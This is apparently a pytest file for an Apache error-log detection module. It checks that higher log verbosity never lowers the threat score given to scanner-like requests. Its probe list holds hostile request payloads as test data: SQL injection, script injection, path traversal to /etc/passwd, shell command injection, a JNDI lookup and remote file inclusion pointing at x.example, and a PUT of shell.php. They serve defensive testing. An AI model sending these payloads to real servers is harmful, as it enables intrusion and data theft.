"""More logging must not weaken detection: what a request costs at LogLevel warn it costs at core:info and more at the least."""
import pytest

PROBES = {
    "missing": ("GET", "/nothing-here"),
    "php": ("GET", "/admin/setup.php"),
    "wordpress": ("GET", "/wp-login.php"),
    "phpmyadmin": ("GET", "/phpmyadmin/index.php"),
    "secret file": ("GET", "/.env"),
    "repository": ("GET", "/.git/config"),
    "htaccess": ("GET", "/.htaccess"),
    "backup": ("GET", "/backup.sql.gz"),
    "web shell": ("GET", "/uploads/c99.php"),
    "cgi": ("GET", "/cgi-bin/test.cgi"),
    "server status": ("GET", "/server-status"),
    "denied": ("GET", "/denied/x"),
    "denied and injected": ("GET", "/denied/x?id=1%27%20union%20select%20password%20from%20users--"),
    "injection in the query": ("GET", "/nothing?id=1%27%20union%20select%20password%20from%20users--"),
    "injection on a page": ("GET", "/page.html?id=1%27%20union%20select%20password%20from%20users--"),
    "script in the query": ("GET", "/nothing?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "script in the path": ("GET", "/%3Cscript%3Ealert(1)%3C/script%3E"),
    "traversal in the query": ("GET", "/nothing?file=../../../../etc/passwd"),
    "traversal in the path": ("GET", "/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    "traversal, encoded twice": ("GET", "/a/%252e%252e/%252e%252e/etc/passwd"),
    "encoded slash": ("GET", "/a%2fb"),
    "NUL": ("GET", "/a%00b"),
    "bad escape": ("GET", "/a%zzb"),
    "command": ("GET", "/nothing?cmd=;cat%20/etc/passwd"),
    "template": ("GET", "/nothing?name={{7*7}}"),
    "jndi": ("GET", "/nothing?x=${jndi:ldap://x.example/a}"),
    "remote file": ("GET", "/nothing?page=http://x.example/shell.txt?"),
    "php wrapper": ("GET", "/nothing?page=php://filter/convert.base64-encode/resource=index"),
    "TRACE": ("TRACE", "/page.html"),
    "unknown method": ("FOO", "/page.html"),
    "PUT": ("PUT", "/shell.php"),
    "DELETE": ("DELETE", "/page.html"),
    "PROPFIND": ("PROPFIND", "/"),
    "router": ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
    "long name": ("GET", "/" + "a" * 300),
    "wrong password": ("GET", "/private/page.html"),
}
HEADERS = {"wrong password": {"Authorization": "Basic YWxpY2U6d3Jvbmc="}}
AGENTS = {"tool": {"User-Agent": "curl/8"},
          "browser": {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0", "Accept": "text/html,*/*;q=0.8",
                      "Accept-Language": "de,en;q=0.5", "Sec-Fetch-Site": "none", "Sec-Fetch-Dest": "document"}}


class Hosts:
    rules = ""

    @classmethod
    def configure(cls, config):
        config.known_entries = "."
        config.errwatch(f"""
            {cls.rules}
            ErrWatchInspect all
            ErrWatchLimit any 60/7d
            <VirtualHost *>
              ServerName quiet.example
              LogLevel warn
              <Location /errwatch-status>
                SetHandler errwatch-status
                Require ip 127.0.0.1
              </Location>
            </VirtualHost>
            <VirtualHost *>
              ServerName chatty.example
              LogLevel warn core:info
            </VirtualHost>
            <VirtualHost *>
              ServerName debug.example
              LogLevel debug
            </VirtualHost>
        """, rules="")

    def cost(self, server, host, method, path, headers):
        """Of this request by a client of its own."""
        client = server.client()
        with client.connect() as connection:
            connection.request(method, path, {"Host": host, **headers})
            if not connection.get("/page.html", {"Host": host}).status:  # it comes when the response was judged
                client.get("/page.html", {"Host": host})
        return server.status.score(client.address, "any")

    def costs(self, server, method, path, headers):
        return [round(self.cost(server, host, method, path, headers), 1) for host in ("quiet.example", "chatty.example", "debug.example")]


class TestShippedRules(Hosts):
    rules = "Include ${CONF}/rules/*.conf"

    @pytest.mark.parametrize("agent", AGENTS)
    def test_costs_no_less(self, server, agent):
        costs = {name: self.costs(server, *probe, {**AGENTS[agent], **HEADERS.get(name, {})}) for name, probe in PROBES.items()}
        assert sum(1 for quiet, _, _ in costs.values() if quiet > 0) > len(PROBES) / 2, costs
        assert {name: cost for name, cost in costs.items() if min(cost[1:]) < cost[0]} == {}


class TestEntryAndResponse(Hosts):
    """Both are judged, and the costlier counts, once."""

    rules = r"""
        ErrWatchRule 900401 vuln_scan ah=AH00128 target=uri cost=1 "^/cheap-entry"
        ErrWatchRule 900402 vuln_scan status=404 cost=3
        ErrWatchRule 900403 vuln_scan ah=AH00128 target=uri cost=5 "^/dear-entry"
        ErrWatchRule 900404 bad_request ah=AH00128 target=uri cost=1 "^/other-entry"
        ErrWatchRule 900405 benign ah=AH00128 target=uri cost=9 "^/harmless-entry"
    """

    @pytest.mark.parametrize("path, quiet, chatty", [("/cheap-entry", 3, 3), ("/dear-entry", 3, 5), ("/other-entry", 3, 3),
                                                     ("/harmless-entry", 3, 3), ("/no-entry", 3, 3)])
    def test_costlier_counts(self, server, path, quiet, chatty):
        assert self.costs(server, "GET", path, AGENTS["tool"]) == [quiet, chatty, chatty]
